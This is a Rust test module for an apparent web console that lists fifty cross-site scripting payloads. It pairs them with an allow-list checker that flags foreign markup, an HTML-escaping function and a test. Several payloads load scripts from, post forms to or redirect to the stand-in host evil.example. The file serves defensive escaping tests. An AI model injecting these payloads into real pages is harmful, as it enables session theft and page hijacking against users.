//! Fifty texts that become markup or script where a page forgets to escape them, and a reader of
//! pages that finds any markup which is not the console's own.

/// The texts.
pub(crate) const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<IMG SRC=javascript:alert('1')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=csrf>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "\"><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"/><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
];

/// The only script.
const SCRIPT: &str = "script src=\"/assets/script.js\" defer>";

/// The elements of the console's pages.
const ELEMENTS: &[&str] = &[
    "a", "body", "br", "button", "caption", "code", "dd", "details", "div", "dl", "dt", "fieldset",
    "form", "h1", "h2", "h3", "head", "header", "html", "input", "label", "legend", "li", "link",
    "main", "meta", "nav", "ol", "p", "pre", "script", "section", "span", "strong", "summary",
    "table", "tbody", "td", "template", "th", "thead", "time", "title", "tr", "ul", "!doctype",
];

/// Their attributes.
const ATTRIBUTES: &[&str] = &[
    "action",
    "aria-current",
    "aria-describedby",
    "aria-label",
    "aria-labelledby",
    "autocomplete",
    "autofocus",
    "charset",
    "class",
    "content",
    "data-label",
    "data-reload",
    "data-slot",
    "data-stream",
    "datetime",
    "defer",
    "for",
    "hidden",
    "href",
    "html",
    "id",
    "lang",
    "maxlength",
    "method",
    "name",
    "rel",
    "required",
    "role",
    "scope",
    "spellcheck",
    "src",
    "tabindex",
    "type",
    "value",
    "checked",
    "title",
    "alt",
    "rows",
    "cols",
    "colspan",
    "open",
    "min",
    "max",
    "step",
];

/// Finds markup that is not the console's own: a strange element or attribute, or an address of
/// another server.
pub(crate) fn foreign_markup(page: &str) -> Option<String> {
    let mut rest = page;
    while let Some((_, after)) = rest.split_once('<') {
        let name_end = after.find(|c: char| c.is_whitespace() || c == '>')?;
        let (name, mut inside) = after.split_at(name_end);
        let name = name.trim_start_matches('/').to_ascii_lowercase();
        let is_inline = name == "script" && !after.starts_with(SCRIPT) && !after.starts_with('/');
        if is_inline || !ELEMENTS.contains(&name.as_str()) {
            return Some(format!("<{}", after.chars().take(60).collect::<String>()));
        }
        loop {
            inside = inside.trim_start();
            if let Some(end) = inside.strip_prefix('>') {
                rest = end;
                break;
            }
            let end = inside.find(|c: char| c.is_whitespace() || c == '=' || c == '>')?;
            let (attribute, after) = inside.split_at(end);
            if !ATTRIBUTES.contains(&attribute) {
                return Some(format!("{attribute} of <{name}>"));
            }
            inside = after;
            let Some(value) = after.strip_prefix("=\"") else { continue };
            let (value, after) = value.split_once('"')?;
            let is_own = value.starts_with(['/', '#']) && !value.starts_with("//");
            if matches!(attribute, "href" | "src" | "action" | "data-stream") && !is_own {
                return Some(format!("{attribute}={value}"));
            }
            inside = after;
        }
    }
    None
}

/// A text as a page shows it.
pub(crate) fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

#[test]
fn markup_that_is_not_the_consoles_own_is_found() {
    for payload in PAYLOADS.iter().filter(|payload| payload.starts_with('<')) {
        assert!(foreign_markup(&format!("<p>{payload}</p>")).is_some(), "{payload}");
    }
    assert!(foreign_markup("<p class=\"a\">x</p><input required>").is_none());
    assert!(foreign_markup("<a href=\"//evil.example\">x</a>").is_some());
    assert!(foreign_markup("<p title=\"a\" onclick=\"b\">x</p>").is_some());
}
